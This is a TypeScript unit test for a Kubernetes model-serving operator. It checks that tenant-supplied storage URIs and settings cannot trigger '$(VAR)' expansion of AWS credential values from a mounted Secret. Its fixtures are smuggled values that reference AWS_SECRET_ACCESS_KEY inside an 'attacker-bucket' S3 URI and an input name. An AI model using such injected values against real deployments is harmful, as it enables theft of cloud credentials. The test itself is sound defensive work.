import { describe, expect, it } from '@jest/globals';
import { verbatim } from '../../../common/kube/verbatim.js';
import { modelDeployment } from '../../../operator/serving/model-workload.js';
import { aModel } from '../../builders/resources.js';

/**
 * Kubernetes expands `$(NAME)` in a container's args from its environment, the storage Secret's
 * keys included (the puller takes them with envFrom): tenant text must reach it as written.
 */
describe("the puller's arguments", () => {
  /** What Kubernetes makes of an argument (k8s.io/kubernetes third_party/forked/golang/expansion). */
  const expand = (arg: string, env: Record<string, string>): string =>
    arg.replace(/\$\$|\$\(([A-Za-z_][A-Za-z0-9_.-]*)\)/g, (m, name: string | undefined) =>
      m === '$$' ? '$' : (env[name ?? ''] ?? m),
    );
  const secretEnv = { AWS_SECRET_ACCESS_KEY: 'the-secret', AWS_ACCESS_KEY_ID: 'the-id' };

  const deployment = (storageUri: string, inputName: string) =>
    modelDeployment(
      {
        model: aModel(
          'model-leak',
          { storageUri, credentials: { secretName: 'shared-store' } },
          { namespace: 'tollgate', uid: 'u1' },
        ),
        workload: 'model-leak',
        version: undefined,
        storageUri,
        replicas: 1,
        settings: {
          name: 'model-leak',
          implementation: 'mlserver_sklearn.SKLearnModel',
          parameters: { uri: './model.joblib' },
          inputs: [{ name: inputName, datatype: 'FP32', shape: [-1, 4] }],
        },
        settingsGenerated: true,
        image: 'seldonio/mlserver:1.7.1-sklearn',
        gateway: 'central',
      },
      { pullerImage: 'tollgate:test' },
    );

  it('carries a storage URI and settings that name the credentials as text, never their values', () => {
    const uri = 's3://attacker-bucket/$(AWS_SECRET_ACCESS_KEY)/$$(AWS_ACCESS_KEY_ID)/a$b';
    const d = deployment(uri, '$(AWS_SECRET_ACCESS_KEY)');
    const puller = d.spec?.template.spec?.containers.find((c) => c.name === 'pull');
    expect(puller?.envFrom).toEqual([{ secretRef: { name: 'shared-store' } }]);
    const args = (puller?.args ?? []).map((a) => expand(a, secretEnv));
    expect(args[1]).toBe(uri);
    expect(args.join(' ')).not.toContain('the-secret');
    expect(args.join(' ')).not.toContain('the-id');
    const settings = JSON.parse(args[args.indexOf('--settings') + 1] ?? '{}') as {
      inputs: Array<{ name: string }>;
    };
    expect(settings.inputs[0]?.name).toBe('$(AWS_SECRET_ACCESS_KEY)');
  });

  it('leaves text without a dollar sign as it is', () => {
    expect(verbatim('s3://models/iris/1')).toBe('s3://models/iris/1');
    expect(verbatim('$')).toBe('$$');
  });
});
